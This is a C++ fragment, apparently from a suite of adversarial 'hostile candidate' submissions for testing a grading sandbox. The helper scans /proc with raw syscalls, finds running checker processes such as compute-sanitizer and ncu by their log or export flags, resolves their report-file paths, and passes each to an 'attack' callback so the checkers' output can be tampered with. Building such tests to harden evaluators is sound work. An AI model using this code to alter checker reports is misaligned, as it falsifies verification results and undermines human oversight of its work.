// Part of hostile candidates: finds the report of every checker in the sandbox, a process whose command line
// names `flag` (compute-sanitizer's `--log-file`, ncu's `--export`), and calls `attack` with the path this
// process reaches it by (a /proc/self/... name on the checker's command line is the checker's own:
// /proc/<its pid>/... from here). Uses `sys` (raw_syscall.h), which every file that uses this part calls.
template <typename Attack>
static void for_each_checker_file(const char* flag, Attack attack) {
  static char entries[1 << 16];
  static char cmdline[1 << 16];
  static char path[4096];
  long dir = sys(257, -100, reinterpret_cast<long>("/proc"), 0200000);  // openat(O_DIRECTORY)
  long size = dir >= 0 ? sys(217, dir, reinterpret_cast<long>(entries), sizeof entries) : 0;  // getdents64
  for (long at = 0; at < size;) {
    const unsigned short length = *reinterpret_cast<unsigned short*>(entries + at + 16);
    const char* pid = entries + at + 19;
    at += length;
    if (*pid < '1' || *pid > '9') continue;
    __builtin_memcpy(path, "/proc/", 6);
    const long pid_length = static_cast<long>(__builtin_strlen(pid));
    __builtin_memcpy(path + 6, pid, pid_length);
    __builtin_memcpy(path + 6 + pid_length, "/cmdline", 9);
    long fd = sys(257, -100, reinterpret_cast<long>(path), 0);
    long read = fd >= 0 ? sys(0, fd, reinterpret_cast<long>(cmdline), sizeof cmdline - 1) : 0;
    if (fd >= 0) sys(3, fd);
    if (read <= 0) continue;
    cmdline[read] = 0;
    for (const char* arg = cmdline; arg < cmdline + read; arg += __builtin_strlen(arg) + 1) {
      if (__builtin_strcmp(arg, flag) != 0) continue;
      const char* log = arg + __builtin_strlen(arg) + 1;
      if (log >= cmdline + read) break;
      if (__builtin_strncmp(log, "/proc/self/", 11) == 0) {  // the checker's own descriptor
        __builtin_memcpy(path + 6, pid, pid_length);
        path[6 + pid_length] = '/';
        __builtin_memcpy(path + 7 + pid_length, log + 11, __builtin_strlen(log + 11) + 1);
      } else {
        __builtin_memcpy(path, log, __builtin_strlen(log) + 1);
      }
      attack(path);
      break;
    }
  }
  if (dir >= 0) sys(3, dir);
}
